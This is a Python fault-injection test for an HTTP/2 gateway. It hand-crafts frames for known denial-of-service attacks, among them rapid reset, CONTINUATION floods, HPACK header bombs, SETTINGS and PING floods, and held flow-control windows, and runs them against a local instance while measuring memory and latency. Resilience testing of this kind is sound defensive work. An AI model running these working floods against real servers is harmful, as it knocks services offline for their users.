#!/usr/bin/env python3
"""HTTP/2 in bad hands (W20): resets, CONTINUATION, empty DATA, SETTINGS, PING, windows held at zero, sockets that take nothing.

Frames are made by hand, since no client library makes these. Each attack runs for some seconds from 16 connections, politely
to the processor and rudely to the gateway; another client asks for a page all the time.

    tests/faults/http2.py --program target/debug/waxseal [--only "rapid reset"]
"""

import argparse
import contextlib
import http.client
import multiprocessing
import os
import pathlib
import select
import shutil
import socket
import statistics
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent / "peers"))

from claims import claim, end  # noqa: E402

from gateway import Gateway, free_port, workplace  # noqa: E402

CONNECTIONS = 16
SECONDS = 6
# What an attack may cost.
GROWTH_MB = 64
SLOWER = 2.0
# Below this, how much slower is noise of the machine.
NOISE_MS = 15

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, payload=b""):
    """RFC 9113 §4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    """A string without Huffman coding. RFC 7541 §5.2."""
    assert len(value) < 127
    return bytes([len(value)]) + value


def request(path=b"/help", method=b"\x82"):
    """GET (or what `method` says), http, path, authority. RFC 7541 §6.2.2: literals that are not indexed."""
    return method + b"\x86" + b"\x04" + text(path) + b"\x01" + text(b"127.0.0.1")


POST = b"\x83"


class Connection:
    """One connection that has said hello."""

    def __init__(self, port, number=0, settings=b""):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(f"127.0.3.{1 + number}", 0))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.stream = -1
        self.buffer = b""

    def send(self, octets):
        self.socket.sendall(octets)

    def next(self):
        self.stream += 2
        return self.stream

    def answer(self):
        """Takes what has come, answers SETTINGS and PING as a well-behaved client does; False when the gateway has closed."""
        while select.select([self.socket], [], [], 0)[0]:
            octets = self.socket.recv(65_536)
            if not octets:
                return False
            self.buffer += octets
        while len(self.buffer) >= 9 and len(self.buffer) >= 9 + (size := int.from_bytes(self.buffer[:3], "big")):
            kind, flags, payload = self.buffer[3], self.buffer[4], self.buffer[9 : 9 + size]
            self.buffer = self.buffer[9 + size :]
            if kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
        return True


def rapid_reset(connection):
    """CVE-2023-44487."""
    batch = b""
    for _ in range(50):
        stream = connection.next()
        batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, request()) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
    connection.send(batch)


def made_to_reset(connection):
    """CVE-2025-8671: what is sent makes the server reset, and its own resets count for nothing."""
    batch = b""
    for _ in range(50):
        stream = connection.next()
        batch += frame(HEADERS, END_HEADERS, stream, request(method=POST)) + frame(WINDOW_UPDATE, 0, stream, (0).to_bytes(4, "big"))
    connection.send(batch)


def continuation(connection):
    """CVE-2024-27316: a header without end."""
    if connection.stream < 0:
        connection.send(frame(HEADERS, 0, connection.next(), request()))
    connection.send(frame(CONTINUATION, 0, connection.stream, (b"\x00" + text(b"x") + text(b"y" * 100)) * 100) * 10)


def header_bomb(connection):
    """CVE-2016-6581: a name that is kept once and named a thousand times."""
    large = b"\x40" + text(b"z") + bytes([127, 0xA1, 0x1E]) + b"w" * 4_000
    connection.send(frame(HEADERS, END_STREAM | END_HEADERS, connection.next(), request() + large + b"\xbe" * 8_000))


def empty_data(connection):
    """RUSTSEC-2026-0258, CVE-2019-9518."""
    if connection.stream < 0:
        for _ in range(10):
            connection.send(frame(HEADERS, END_HEADERS, connection.next(), request(b"/password", POST)))
    connection.send(b"".join(frame(DATA, 0, stream) for stream in range(1, connection.stream + 1, 2)) * 200)


def settings(connection):
    """CVE-2019-9515: an answer to each, and none is read."""
    connection.send(frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") * 1_000)


def ping(connection):
    """CVE-2019-9512: the same."""
    connection.send(frame(PING, 0, 0, b"12345678") * 1_000)


def window_held(connection):
    """CVE-2019-9511: asks for much, takes nothing, is lively otherwise."""
    if connection.stream < 0:
        for _ in range(16):
            connection.send(frame(HEADERS, END_STREAM | END_HEADERS, connection.next(), request()))
    time.sleep(0.2)


def socket_held(connection):
    """Windows as wide as they go, and a socket that nobody reads."""
    if connection.stream < 0:
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        connection.send(frame(WINDOW_UPDATE, 0, 0, (0x7FFF0000).to_bytes(4, "big")))
    connection.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, connection.next(), request()) for _ in range(16)))
    time.sleep(0.2)


NO_WINDOW = b"\x00\x04\x00\x00\x00\x00"
WIDE_WINDOW = b"\x00\x04\x7f\xff\xff\xff"
# What is done again and again, with which settings, and whether what comes back is read.
ATTACKS = {
    "rapid reset": (rapid_reset, b"", True),
    "made to reset": (made_to_reset, b"", True),
    "CONTINUATION": (continuation, b"", True),
    "header bomb": (header_bomb, b"", True),
    "empty DATA": (empty_data, b"", True),
    "SETTINGS": (settings, b"", False),
    "PING": (ping, b"", False),
    "windows held at zero": (window_held, NO_WINDOW, True),
    "a socket that takes nothing": (socket_held, WIDE_WINDOW, False),
}


def attack(name, port, seconds, ended):
    """All connections in turn; who is thrown out comes back. Counts how often."""
    os.nice(19)
    act, hello, reads = ATTACKS[name]
    end, connections = time.monotonic() + seconds, {}
    while time.monotonic() < end:
        for number in range(CONNECTIONS):
            try:
                if number not in connections:
                    connections[number] = Connection(port, number, hello)
                connections[number].socket.settimeout(0.05)
                act(connections[number])
                if reads and not connections[number].answer():
                    raise ConnectionResetError
            except TimeoutError:
                pass  # Nothing is taken from us: that is backpressure, and as it should be.
            except OSError:
                ended.value += 1
                with contextlib.suppress(KeyError):
                    connections.pop(number).socket.close()
    for connection in connections.values():
        connection.socket.close()


def memory(gateway):
    """Resident, in MB."""
    return int((pathlib.Path("/proc") / str(gateway.process.pid) / "statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 1e6


def asked(port, seconds):
    """Milliseconds that a page takes on a connection of its own, again and again."""
    end, took = time.monotonic() + seconds, []
    while time.monotonic() < end:
        began = time.monotonic()
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
        connection.request("GET", "/help")
        if connection.getresponse().status != 200:
            raise SystemExit("the page is not there")
        connection.close()
        took.append((time.monotonic() - began) * 1_000)
        time.sleep(0.005)
    return statistics.quantiles(took, n=20)[-1]


def withstand(gateway, name, usual):
    before, ended = memory(gateway), multiprocessing.Value("i", 0)
    attacker = multiprocessing.Process(target=attack, args=(name, gateway.web, SECONDS, ended))
    attacker.start()
    peak, late = before, []
    for _ in range(SECONDS - 1):
        late.append(asked(gateway.web, 1))
        peak = max(peak, memory(gateway))
    attacker.join()
    slowest = statistics.median(late)
    claim(f"W20 {name}: the gateway grows by no more than {GROWTH_MB} MB and others are served", peak - before <= GROWTH_MB and slowest <= max(SLOWER * usual, NOISE_MS),
          f"{peak - before:+.0f} MB, p95 {slowest:.1f} ms where {usual:.1f} is usual, {ended.value} connections ended")


def holders_go(gateway):
    """Who holds a connection without taking anything loses it in the time that is set."""
    connections = [Connection(gateway.web, number, NO_WINDOW) for number in range(CONNECTIONS)]
    idle = [Connection(gateway.web, number) for number in range(CONNECTIONS)]
    silent = [socket.create_connection(("127.0.0.1", gateway.web), source_address=(f"127.0.3.{1 + number}", 0)) for number in range(CONNECTIONS)]
    for connection in connections:
        for _ in range(4):
            connection.send(frame(HEADERS, END_STREAM | END_HEADERS, connection.next(), request()))
    began, gone = time.monotonic(), {}
    while len(gone) < 3 and time.monotonic() - began < 30:
        connections = [connection for connection in connections if alive(connection)]
        idle = [connection for connection in idle if alive(connection)]
        silent = [connection for connection in silent if not select.select([connection], [], [], 0)[0]]
        for what, left in (("held", connections), ("idle", idle), ("silent", silent)):
            if not left:
                gone.setdefault(what, time.monotonic() - began)
        time.sleep(0.1)
    claim("W20 who holds, idles or says nothing loses the connection in time", len(gone) == 3 and max(gone.values()) < 15,
          ", ".join(f"{what} after {took:.1f} s" for what, took in gone.items()))


def alive(connection):
    try:
        return connection.answer()
    except OSError:
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--program", required=True)
    parser.add_argument("--only", choices=ATTACKS, action="append")
    arguments = parser.parse_args()
    place = workplace()
    gateway = Gateway(arguments.program, f"{place}/gateway", f"127.0.0.1:{free_port()}")
    gateway.set("web", request_seconds=3, stall_seconds=6).start()
    began = time.monotonic()
    try:
        asked(gateway.web, 1)
        usual = statistics.median(asked(gateway.web, 1) for _ in range(3))
        for name in arguments.only or ATTACKS:
            withstand(gateway, name, usual)
        holders_go(gateway)
        claim("W20 afterwards it is what it was", asked(gateway.web, 1) <= max(SLOWER * usual, NOISE_MS))
    finally:
        gateway.kill()
        shutil.rmtree(place, ignore_errors=True)
    end(began)


if __name__ == "__main__":
    main()
